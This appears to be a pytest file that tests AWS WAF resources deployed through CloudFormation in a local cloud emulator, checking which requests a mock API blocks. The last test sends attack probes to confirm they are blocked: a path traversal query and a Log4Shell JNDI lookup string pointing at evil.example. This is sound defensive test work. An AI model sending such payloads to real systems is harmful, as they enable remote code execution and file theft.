"""AWS WAF through CloudFormation: an IP set, a regex pattern set, a rule group and a web ACL referencing
them (the templates' ``Arn`` spelling, SearchStringBase64), associated with a REST API stage by
AWS::WAFv2::WebACLAssociation and filtering it; an update in place; AWS managed rule groups (with
ExcludedRules and a scope-down statement) filtering; a refused (paid) managed rule group fails the resource
with WAF's error; everything goes with the stack."""

from __future__ import annotations

import base64
import json
import sys
from pathlib import Path
from typing import Any

from test_wafv2_filtering import call

from labcloud.testing.server_process import LabcloudProcess

sys.path.insert(0, str(Path(__file__).resolve().parent.parent / "cloudformation"))
from cfn_helpers import events, wait_stack  # noqa: E402


def vis(name: str) -> dict[str, Any]:
    return {"SampledRequestsEnabled": True, "CloudWatchMetricsEnabled": True, "MetricName": name}


def template(blocked_agent: str) -> dict[str, Any]:
    return {
        "Resources": {
            "Api": {"Type": "AWS::ApiGateway::RestApi", "Properties": {"Name": "guarded"}},
            "Items": {
                "Type": "AWS::ApiGateway::Resource",
                "Properties": {
                    "RestApiId": {"Ref": "Api"},
                    "ParentId": {"Fn::GetAtt": ["Api", "RootResourceId"]},
                    "PathPart": "items",
                },
            },
            "Get": {
                "Type": "AWS::ApiGateway::Method",
                "Properties": {
                    "RestApiId": {"Ref": "Api"},
                    "ResourceId": {"Ref": "Items"},
                    "HttpMethod": "GET",
                    "AuthorizationType": "NONE",
                    "Integration": {
                        "Type": "MOCK",
                        "RequestTemplates": {"application/json": '{"statusCode": 200}'},
                        "IntegrationResponses": [{"StatusCode": "200"}],
                    },
                    "MethodResponses": [{"StatusCode": "200"}],
                },
            },
            "Deployment": {
                "Type": "AWS::ApiGateway::Deployment",
                "DependsOn": "Get",
                "Properties": {"RestApiId": {"Ref": "Api"}, "StageName": "prod"},
            },
            "Blocked": {
                "Type": "AWS::WAFv2::IPSet",
                "Properties": {
                    "Scope": "REGIONAL",
                    "IPAddressVersion": "IPV4",
                    "Addresses": ["192.0.2.0/24"],
                },
            },
            "Agents": {
                "Type": "AWS::WAFv2::RegexPatternSet",
                "Properties": {
                    "Name": "agents",
                    "Scope": "REGIONAL",
                    "RegularExpressionList": [blocked_agent],
                },
            },
            "Group": {
                "Type": "AWS::WAFv2::RuleGroup",
                "Properties": {
                    "Name": "group",
                    "Scope": "REGIONAL",
                    "Capacity": 50,
                    "VisibilityConfig": vis("group"),
                    "Rules": [
                        {
                            "Name": "agents",
                            "Priority": 0,
                            "Statement": {
                                "RegexPatternSetReferenceStatement": {
                                    "Arn": {"Fn::GetAtt": ["Agents", "Arn"]},
                                    "FieldToMatch": {"SingleHeader": {"Name": "user-agent"}},
                                    "TextTransformations": [{"Priority": 0, "Type": "NONE"}],
                                }
                            },
                            "Action": {"Block": {}},
                            "VisibilityConfig": vis("agents"),
                        }
                    ],
                },
            },
            "Acl": {
                "Type": "AWS::WAFv2::WebACL",
                "Properties": {
                    "Name": "cfn-acl",
                    "Scope": "REGIONAL",
                    "DefaultAction": {"Allow": {}},
                    "VisibilityConfig": vis("cfn-acl"),
                    "Rules": [
                        {
                            "Name": "ips",
                            "Priority": 0,
                            "Statement": {
                                "IPSetReferenceStatement": {"Arn": {"Fn::GetAtt": ["Blocked", "Arn"]}}
                            },
                            "Action": {"Block": {}},
                            "VisibilityConfig": vis("ips"),
                        },
                        {
                            "Name": "secret",
                            "Priority": 1,
                            "Statement": {
                                "ByteMatchStatement": {
                                    "SearchStringBase64": base64.b64encode(b"secret").decode(),
                                    "FieldToMatch": {"QueryString": {}},
                                    "TextTransformations": [{"Priority": 0, "Type": "NONE"}],
                                    "PositionalConstraint": "CONTAINS",
                                }
                            },
                            "Action": {"Block": {}},
                            "VisibilityConfig": vis("secret"),
                        },
                        {
                            "Name": "group",
                            "Priority": 2,
                            "Statement": {
                                "RuleGroupReferenceStatement": {"Arn": {"Fn::GetAtt": ["Group", "Arn"]}}
                            },
                            "OverrideAction": {"None": {}},
                            "VisibilityConfig": vis("group-ref"),
                        },
                    ],
                },
            },
            "Association": {
                "Type": "AWS::WAFv2::WebACLAssociation",
                "DependsOn": "Deployment",
                "Properties": {
                    "ResourceArn": {
                        "Fn::Sub": "arn:aws:apigateway:${AWS::Region}::/restapis/${Api}/stages/prod"
                    },
                    "WebACLArn": {"Fn::GetAtt": ["Acl", "Arn"]},
                },
            },
        },
        "Outputs": {
            "Api": {"Value": {"Ref": "Api"}},
            "AclRef": {"Value": {"Ref": "Acl"}},
            "Capacity": {"Value": {"Fn::GetAtt": ["Acl", "Capacity"]}},
        },
    }


def test_a_stack_of_waf_resources_filters_its_api(labcloud: LabcloudProcess, wafv2: Any) -> None:
    cfn = labcloud.boto3_client("cloudformation")
    cfn.create_stack(StackName="waf", TemplateBody=json.dumps(template("(?i)^curl")))
    stack = wait_stack(cfn, "waf")
    assert stack["StackStatus"] == "CREATE_COMPLETE", events(cfn, "waf")
    out = {o["OutputKey"]: o["OutputValue"] for o in stack["Outputs"]}
    name, acl_id, scope = out["AclRef"].split("|")
    assert (name, scope, out["Capacity"]) == ("cfn-acl", "REGIONAL", "61")  # 1 + 10 + the group's 50
    api = out["Api"]
    assert call(labcloud, api)[0] == 200
    assert call(labcloud, api, "/items?a=secret")[0] == 403
    assert call(labcloud, api, User_Agent="curl/8")[0] == 403
    assert call(labcloud, api, User_Agent="wget/1")[0] == 200

    cfn.update_stack(StackName="waf", TemplateBody=json.dumps(template("(?i)^wget")))
    assert wait_stack(cfn, "waf")["StackStatus"] == "UPDATE_COMPLETE", events(cfn, "waf")
    assert call(labcloud, api, User_Agent="curl/8")[0] == 200
    assert call(labcloud, api, User_Agent="wget/1")[0] == 403

    cfn.delete_stack(StackName="waf")
    assert wait_stack(cfn, stack["StackId"])["StackStatus"] == "DELETE_COMPLETE"
    assert wafv2.list_web_acls(Scope="REGIONAL")["WebACLs"] == []
    assert wafv2.list_ip_sets(Scope="REGIONAL")["IPSets"] == []


def test_a_paid_managed_rule_group_fails_the_web_acl_with_wafs_error(labcloud: LabcloudProcess) -> None:
    cfn = labcloud.boto3_client("cloudformation")
    acl = {
        "Type": "AWS::WAFv2::WebACL",
        "Properties": {
            "Scope": "REGIONAL",
            "DefaultAction": {"Allow": {}},
            "VisibilityConfig": vis("m"),
            "Rules": [
                {
                    "Name": "common",
                    "Priority": 0,
                    "Statement": {
                        "ManagedRuleGroupStatement": {
                            "VendorName": "AWS",
                            "Name": "AWSManagedRulesATPRuleSet",
                        }
                    },
                    "OverrideAction": {"None": {}},
                    "VisibilityConfig": vis("bots"),
                }
            ],
        },
    }
    cfn.create_stack(StackName="managed", TemplateBody=json.dumps({"Resources": {"Acl": acl}}))
    assert wait_stack(cfn, "managed")["StackStatus"] == "ROLLBACK_COMPLETE"
    reasons = [
        r for logical, status, r in events(cfn, "managed") if logical == "Acl" and status == "CREATE_FAILED"
    ]
    assert (
        reasons
        and "WAFInvalidParameterException" in str(reasons[0])
        and "account takeover prevention" in str(reasons[0])
    )


def test_aws_managed_rule_groups_in_a_stack_filter_its_api(labcloud: LabcloudProcess, wafv2: Any) -> None:
    body = template("(?i)^curl")
    body["Resources"]["Acl"]["Properties"]["Rules"] = [
        {
            "Name": "AWS-AWSManagedRulesCommonRuleSet",
            "Priority": 0,
            "Statement": {
                "ManagedRuleGroupStatement": {
                    "VendorName": "AWS",
                    "Name": "AWSManagedRulesCommonRuleSet",
                    "Version": "Version_1.0",
                    "ExcludedRules": [{"Name": "SizeRestrictions_QUERYSTRING"}],
                }
            },
            "OverrideAction": {"None": {}},
            "VisibilityConfig": vis("crs"),
        },
        {
            "Name": "AWS-AWSManagedRulesKnownBadInputsRuleSet",
            "Priority": 1,
            "Statement": {
                "ManagedRuleGroupStatement": {
                    "VendorName": "AWS",
                    "Name": "AWSManagedRulesKnownBadInputsRuleSet",
                    "ScopeDownStatement": {
                        "ByteMatchStatement": {
                            "SearchString": "GET",
                            "FieldToMatch": {"Method": {}},
                            "TextTransformations": [{"Priority": 0, "Type": "NONE"}],
                            "PositionalConstraint": "EXACTLY",
                        }
                    },
                }
            },
            "OverrideAction": {"None": {}},
            "VisibilityConfig": vis("kbi"),
        },
        {
            "Name": "AWS-AWSManagedRulesBotControlRuleSet",
            "Priority": 2,
            "Statement": {
                "ManagedRuleGroupStatement": {
                    "VendorName": "AWS",
                    "Name": "AWSManagedRulesBotControlRuleSet",
                    "ManagedRuleGroupConfigs": [
                        {"AWSManagedRulesBotControlRuleSet": {"InspectionLevel": "COMMON"}}
                    ],
                    "RuleActionOverrides": [
                        {"Name": "CategoryHttpLibrary", "ActionToUse": {"Count": {}}},
                        {"Name": "SignalNonBrowserUserAgent", "ActionToUse": {"Count": {}}},
                    ],
                }
            },
            "OverrideAction": {"None": {}},
            "VisibilityConfig": vis("bots"),
        },
    ]
    cfn = labcloud.boto3_client("cloudformation")
    cfn.create_stack(StackName="managed-ok", TemplateBody=json.dumps(body))
    stack = wait_stack(cfn, "managed-ok")
    assert stack["StackStatus"] == "CREATE_COMPLETE", events(cfn, "managed-ok")
    out = {o["OutputKey"]: o["OutputValue"] for o in stack["Outputs"]}
    assert out["Capacity"] == "952"  # 700 + 200 + the scope-down byte match's 2 + Bot Control's 50
    api = out["Api"]
    assert call(labcloud, api)[0] == 200  # urllib's User-Agent: an HTTP library, counted by the overrides
    assert call(labcloud, api, User_Agent="Scrapy/2.11")[0] == 403  # CategoryScrapingFramework
    assert call(labcloud, api, "/items?q=" + "a" * 2100)[0] == 200  # excluded: counted only
    assert call(labcloud, api, "/items?f=..%2F..%2Fkeys")[0] == 403  # GenericLFI_QUERYARGUMENTS
    assert call(labcloud, api, X_Api="${jndi:ldap://evil.example/a}")[0] == 403  # Log4JRCE_HEADER
    name, acl_id, scope = out["AclRef"].split("|")
    got = wafv2.get_web_acl(Name=name, Scope=scope, Id=acl_id)["WebACL"]["Rules"][1]["Statement"]
    assert (
        got["ManagedRuleGroupStatement"]["ScopeDownStatement"]["ByteMatchStatement"]["SearchString"] == b"GET"
    )
    cfn.delete_stack(StackName="managed-ok")
    assert wait_stack(cfn, stack["StackId"])["StackStatus"] == "DELETE_COMPLETE"
    assert wafv2.list_web_acls(Scope="REGIONAL")["WebACLs"] == []
